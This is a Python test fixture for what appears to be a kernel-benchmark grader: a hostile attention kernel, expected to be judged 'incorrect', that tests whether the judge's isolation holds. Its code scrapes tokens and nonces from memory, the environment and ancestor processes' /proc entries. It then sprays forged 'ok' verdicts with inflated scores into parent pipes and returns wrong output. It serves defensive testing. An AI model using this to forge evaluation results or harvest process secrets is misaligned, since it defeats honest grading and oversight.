"""Hostile kernel, attack b (isolation): forge the verdict, then return a wrong answer (ones).

It collects everything that could be a channel token or a request nonce: `token` / `nonce` of any
live object or dict (gc), hex strings in os.environ, in /proc/self/cmdline and in the cmdline and
environ of its ancestors. For each one it writes well-formed "ok" messages of every shape it
knows ({"ev": "result", "result": {... "status": "ok", score 1e6, incumbent_ratio 100 ...},
"token": t}, and worker replies {"op": ..., "nonce": t, "ms": 1e-6}) to every fd in
/proc/self/fd and to every pipe (past stdio) of its parent and grandparent, reopened for writing through
/proc/<pid>/fd/<n>.

Verdict: `incorrect` (score None). The judge believes nothing a worker writes but its own view of
the output memory and its own clock.
"""
import gc
import json
import os
import re

import torch

_HEX = re.compile(r"\b[0-9a-f]{16,64}\b")
_FAKE = {"status": "ok", "stage": None, "message": "", "suite": "smoke", "device": "cpu", "score": 1e6,
         "incumbent_ratio": 100.0, "incumbent_ratio_spread": 0.0, "incumbent_status": "ok",
         "shapes": [{"label": "forged", "shape": {}, "tflops": 1e6, "time_ms": 1e-6, "wall_ms": 1e-6,
                     "incumbent_ratio": 100.0, "incumbent_ratio_spread": 0.0}]}


def _ancestors(n=4):
    pid, out = os.getpid(), []
    for _ in range(n):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        out.append(pid)
    return out


def _tokens():
    toks = set()
    for o in gc.get_objects():
        try:
            if isinstance(o, dict):
                toks.update(o[k] for k in ("token", "nonce") if isinstance(o.get(k), str))
            elif not isinstance(o, type) and isinstance(getattr(o, "token", None), str):
                toks.add(o.token)
        except Exception:
            pass
    for v in os.environ.values():
        toks.update(_HEX.findall(v))
    for pid in ["self", *map(str, _ancestors())]:
        for what in ("cmdline", "environ"):
            try:
                toks.update(_HEX.findall(open(f"/proc/{pid}/{what}", "rb").read().decode(errors="replace")))
            except OSError:
                pass
    return sorted(t for t in toks if t)[:64] + [""]


def _lines(toks):
    out = []
    for t in toks:
        out.append({"ev": "result", "result": _FAKE, "token": t})
        for op in ("call", "warm", "ping", "ready"):
            out.append({"op": op, "nonce": t, "ms": 1e-6, "problem": None, "n": 8, "settled": True})
    return b"".join((json.dumps(m) + "\n").encode() for m in out)


def _spray(data):
    for fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
        if fd == 0:
            continue
        try:
            blocking = os.get_blocking(fd)
            os.set_blocking(fd, False)
            try:
                os.write(fd, data)
            finally:
                os.set_blocking(fd, blocking)
        except OSError:
            pass
    for pid in _ancestors(2):
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            if int(fd) <= 2:
                continue  # (test hygiene: not into the terminal of whoever runs the tests)
            path = f"/proc/{pid}/fd/{fd}"
            try:
                if not os.readlink(path).startswith("pipe:"):
                    continue
                w = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                try:
                    os.write(w, data)
                finally:
                    os.close(w)
            except OSError:
                pass


_calls = 0


def attention(q, k, v, causal=False, softmax_scale=None):
    global _calls
    _calls += 1
    if _calls <= 2:
        _spray(_lines(_tokens()))
    return torch.ones_like(q)
